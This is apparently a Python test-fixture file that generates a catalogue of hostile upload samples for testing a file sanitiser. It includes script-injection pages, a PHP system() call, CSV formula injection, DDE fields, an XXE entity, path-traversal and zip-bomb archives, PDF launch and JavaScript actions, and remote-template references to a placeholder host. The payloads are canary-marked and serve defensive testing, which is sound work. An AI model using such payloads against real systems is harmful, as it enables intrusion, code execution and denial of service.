"""Hostile files by name: the sort they are sent as, their content, and a mark that nothing kept of them may hold."""

import io
import struct
import zipfile
import zlib
from functools import reduce

from PIL import Image, PngImagePlugin
from sound_files import CATALOGUE, SHEET, WORD, archive, box, compound, id3, mp3, mp4, packed_objects, pdf, picture

MARK = b"KANARIAKALO"
HTML = b"<!DOCTYPE html><html><script>alert('KANARIAKALO')</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='KANARIAKALO()'></svg>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


def exif():
    """Where it was taken, by whom, and a small picture of what it was before."""
    said = Image.Exif()
    said[0x010E] = "KANARIAKALO"
    said[0x8825] = {1: "S", 2: (8.0, 33.0, 21.0), 3: "E", 4: (125.0, 34.0, 12.0)}
    return said.tobytes()


def chunk(name, said):
    return struct.pack(">I", len(said)) + name + said + struct.pack(">I", zlib.crc32(name + said))


def png_with(name, said):
    whole = picture("PNG")
    return whole[:33] + chunk(name, said) + whole[33:]


def jpeg_with(marker, said):
    whole = picture()
    return whole[:2] + b"\xff" + bytes([marker]) + struct.pack(">H", len(said) + 2) + said + whole[2:]


def png_of(width, height, rows=b""):
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def texts_in_png():
    made, told = io.BytesIO(), PngImagePlugin.PngInfo()
    told.add_text("Comment", "KANARIAKALO")
    told.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>KANARIAKALO</x:xmpmeta>")
    Image.new("RGB", (9, 9)).save(made, "PNG", pnginfo=told)
    return made.getvalue()


def jpeg_of(width, height):
    """A head that promises more points than follow."""
    whole = bytearray(picture())
    place = whole.index(b"\xff\xc0") + 5
    whole[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(whole)


def bomb(times):
    return archive(WORD | {"word/media/image1.xml": "0" * times})


def overlapping():
    """Many names for the same bytes: small to send, and large to unpack."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, text in (WORD | {f"word/{place}.xml": "0" * 900_000 for place in range(100)}).items():
            opened.writestr(name, text)
    return made.getvalue()


def lying():
    """Says of a part that it is small."""
    whole = bytearray(archive(WORD | {"word/long.xml": "KANARIAKALO" * 100_000}))
    for place in range(len(whole) - 4):
        if whole[place : place + 4] == struct.pack("<I", 1_100_000):
            whole[place : place + 4] = struct.pack("<I", 10)
    return bytes(whole)


def locked_zip():
    whole = bytearray(archive())
    whole[6] |= 1
    whole[whole.index(b"PK\x01\x02") + 8] |= 1
    return bytes(whole)


def twice():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as opened:
        for name, text in WORD.items():
            opened.writestr(name, text)
        opened.writestr("WORD/document.xml", "KANARIAKALO")
    return made.getvalue()


def rels(line):
    return archive(WORD | {"word/_rels/document.xml.rels": f"<Relationships>{line}</Relationships>"})


OUTSIDE = "<Relationship Id='r9' Type='x/{}' Target='{}' TargetMode='External'/>"
JS = b"<</S /JavaScript /JS (app.alert\\('KANARIAKALO'\\))>>"
MACRO_SHEET = b"\x85\x00\x0e\x00\x10\x00\x00\x00\x00\x01\x06\x00Macro1"

PICTURES = {
    "a page named jpg": HTML,
    "a drawing that runs, named jpg": SVG,
    "a program named png": b"MZ" + bytes(200),
    "a program of another system": b"\x7fELF" + bytes(200),
    "a script of a shell": b"#!/bin/sh\necho KANARIAKALO\n",
    "a picture and a page behind it": picture() + HTML,
    "a picture and an archive behind it": picture("PNG") + archive({"a.txt": "KANARIAKALO"}),
    "a picture and a program behind it": picture() + b"MZ" + MARK,
    "a page in the comment of a jpg": jpeg_with(0xFE, HTML),
    "a page in the comment of a png": png_with(b"tEXt", b"Comment\0" + HTML),
    "a drawing in the profile of a jpg": jpeg_with(0xE2, b"ICC_PROFILE\0\1\1" + SVG),
    "a place in a jpg": picture(exif=exif()),
    "a place in a png": picture("PNG", exif=exif()),
    "what a program wrote into a jpg": jpeg_with(
        0xE1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>KANARIAKALO</x:xmpmeta>"
    ),
    "what an agency wrote into a jpg": jpeg_with(0xED, b"Photoshop 3.0\0" + b"8BIM\x04\x04\0\0\0\0\0\x0b" + MARK),
    "a small picture of what was cut off": jpeg_with(0xE0, b"JFXX\0\x10" + MARK + picture(size=(20, 20))),
    "words in a png": texts_in_png(),
    "a chunk that nobody knows": png_with(b"puNk", MARK),
    "a profile that grows": png_with(b"iCCP", b"x\0\0" + zlib.compress(bytes(30_000_000))),
    "words that grow": png_with(b"zTXt", b"x\0\0" + zlib.compress(MARK * 3_000_000)),
    "a flood of points": png_of(60_000, 60_000),
    "a long line of points": png_of(2_000_000_000, 1),
    "more points than there are": png_of(3_000, 3_000, bytes(100)),
    "a jpg with a head too large": jpeg_of(65_000, 65_000),
    "a jpg that ends too early": picture(size=(400, 300))[:700],
    "a png that ends too early": picture("PNG", size=(400, 300))[:60],
    "a png with wrong sums": picture("PNG").replace(b"IDAT", b"IDAX"),
    "only a head": b"\xff\xd8\xff\xe0",
    "nothing but zeros": bytes(5_000),
    "a moving picture": picture("GIF", mode="P"),
    "a picture of another kind": picture("BMP"),
    "a picture of a scanner": picture("TIFF"),
    "a picture for print": b"%!PS-Adobe-3.0 EPSF-3.0\n(KANARIAKALO) show\n",
    "a picture of layers": b"8BPS\0\1" + bytes(200),
    "a web picture": picture("WEBP"),
    "what every scanner finds": EICAR,
    "what every scanner finds, behind a picture": picture() + EICAR,
    "a document named jpg": pdf(),
}
RECORDINGS = {
    "a page named mp3": HTML,
    "a page in the title": mp3(before=id3(b"TIT2" + HTML)),
    "a page behind the sound": mp3(behind=HTML),
    "a page between the sounds": mp3() + HTML + mp3(),
    "a title at the end": mp3(behind=b"TAG" + MARK.ljust(125, b"\0")),
    "one frame and a program": mp3(frames=1) + b"MZ" + MARK,
    "a film named m4a": mp4(handler=b"vide"),
    "the place of a recording": mp4(beside=box(b"udta", box(b"\xa9xyz", MARK))),
    "a page in a box of its own": mp4(behind=box(b"uuid", HTML)),
    "a page in an unused box": mp4(behind=box(b"free", HTML)),
    "a box longer than the file": mp4(behind=struct.pack(">I", 9_000) + b"mdat"),
    "a box of no length": mp4(behind=struct.pack(">I", 3) + b"mdat"),
    "boxes in boxes": mp4(beside=reduce(lambda inner, _: box(b"trak", inner), range(40), b"")),
    "no sound at all": box(b"ftyp", b"M4A ", bytes(4)) + box(b"mdat", MARK),
}
DOCUMENTS = {
    "a page": HTML,
    "a page after empty lines": b"\n\n\n" + HTML,
    "a page in wide letters": HTML.decode().encode("utf-16"),
    "a drawing": SVG,
    "a program named txt": b"MZ" + MARK,
    "a script of a server": b"<?php system('KANARIAKALO'); ?>",
    "a link that opens by itself": b"[InternetShortcut]\nURL=file://KANARIAKALO\n",
    "a table that calls": b"name,age\n=cmd|'/c KANARIAKALO'!A1,5\n",
    "a table that fetches": b'name,age\n"@SUM(KANARIAKALO)",5\n',
    "a table that adds": b"name;age\n+KANARIAKALO+1;5\n",
    "words that turn around": "KANARIA\u202etxt.exe\u202c KALO\n".encode(),
    "text of an office program with objects": b"{\\rtf1{\\object KANARIAKALO}}",
    "a mail with a page in it": b"MIME-Version: 1.0\nContent-Type: text/html\n\nKANARIAKALO",
    "zeros in a text": b"KANARIA\0KALO",
    "pdf: a script": pdf(CATALOGUE, JS),
    "pdf: a script spelt otherwise": pdf(CATALOGUE, b"<</S /J#61vaScript /#4aS (KANARIAKALO)>>"),
    "pdf: a script in packed objects": pdf(CATALOGUE, packed_objects(b"1 0 " + JS)),
    "pdf: packed so that nobody looks": pdf(CATALOGUE, packed_objects(JS, b"/Filter [/ASCIIHexDecode /FlateDecode]")),
    "pdf: packed and growing": pdf(CATALOGUE, packed_objects(bytes(40_000_000))),
    "pdf: starts a program": pdf(CATALOGUE, b"<</S /Launch /F (KANARIAKALO.exe)>>"),
    "pdf: a file inside": pdf(CATALOGUE, b"<</Names <</EmbeddedFiles 3 0 R>>>>"),
    "pdf: sends what is filled in": pdf(CATALOGUE, b"<</S /SubmitForm /F (http://KANARIAKALO)>>"),
    "pdf: acts when it is opened": pdf(b"<</Type /Catalog /AA <</O 3 0 R>>>>"),
    "pdf: a form of another language": pdf(b"<</Type /Catalog /AcroForm <</XFA 3 0 R>>>>"),
    "pdf: a film": pdf(CATALOGUE, b"<</Subtype /RichMedia>>"),
    "pdf: encrypted": pdf(trailer=b"<</Root 1 0 R /Encrypt 3 0 R>>"),
    "pdf: and an archive": pdf() + archive({"a": "KANARIAKALO"}),
    "pdf: and a page": pdf() + HTML,
    "pdf: behind a page": HTML + pdf(),
    "pdf: without an end": pdf(end=b""),
    "word: macros": archive(WORD | {"word/vbaProject.bin": "KANARIAKALO"}),
    "word: macros by their type": archive(WORD | {"[Content_Types].xml": "<Types ContentType='x.macroEnabled.main'/>"}),
    "word: a program inside": archive(WORD | {"word/embeddings/oleObject1.xml": "KANARIAKALO"}),
    "word: a page inside": archive(WORD | {"word/afchunk.html": "KANARIAKALO"}),
    "word: an archive inside": archive(WORD | {"word/media/a.xml": archive().decode("latin-1")}),
    "word: a template from elsewhere": rels(OUTSIDE.format("attachedTemplate", "http://KANARIAKALO/a.dotm")),
    "word: an object from elsewhere": rels(OUTSIDE.format("oleObject", "http://KANARIAKALO/a.hta")),
    "word: a link to a folder": rels(OUTSIDE.format("hyperlink", "file://KANARIAKALO/share")),
    "word: a field that runs": archive(WORD | {"word/document.xml": "<w:t>DDEAUTO c:\\\\KANARIAKALO</w:t>"}),
    "word: a field that runs, in pieces": archive(
        WORD | {"word/document.xml": "<w:t>DDE</w:t><w:t>AUTO KANARIAKALO</w:t>"}
    ),
    "word: an entity": archive(WORD | {"word/document.xml": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///KANARIAKALO'>]>"}),
    "word: a way out": archive(WORD | {"../../KANARIAKALO.xml": "x"}),
    "word: a way to the top": archive(WORD | {"/etc/KANARIAKALO": "x"}),
    "word: a bomb": bomb(60_000_000),
    "word: a larger bomb": bomb(120_000_000),
    "word: many bombs": overlapping(),
    "word: a part that lies": lying(),
    "word: locked": locked_zip(),
    "word: two of one name": twice(),
    "word: behind a program": b"MZ" + archive(),
    "word: and a page behind it": archive() + HTML,
    "word: cut off": archive()[:-40],
    "an archive of whatever": archive({"a.exe": "KANARIAKALO"}),
    "excel: macros": archive(SHEET | {"xl/vbaProject.bin": "KANARIAKALO"}),
    "excel: a sheet of macros": archive(SHEET | {"xl/macrosheets/sheet1.xml": "KANARIAKALO"}),
    "excel: fetches from elsewhere": archive(SHEET | {"xl/externalLinks/externalLink1.xml": "KANARIAKALO"}),
    "old word: macros": compound("WordDocument", "Macros", "_VBA_PROJECT"),
    "old word: a program inside": compound("WordDocument", "ObjectPool"),
    "old word: a formula that runs": compound("WordDocument", "Equation Native"),
    "old word: locked": compound("EncryptedPackage", "EncryptionInfo"),
    "old excel: macros": compound("Workbook", "_VBA_PROJECT_CUR", "VBA"),
    "old excel: a sheet of macros": compound("Workbook", behind=MACRO_SHEET.ljust(512, b"\0")),
    "an installer": compound("SummaryInformation", "Binary.KANARIAKALO"),
}
HOSTILE = (
    [("image", name, content) for name, content in PICTURES.items()]
    + [("audio", name, content) for name, content in RECORDINGS.items()]
    + [("document", name, content) for name, content in DOCUMENTS.items()]
)
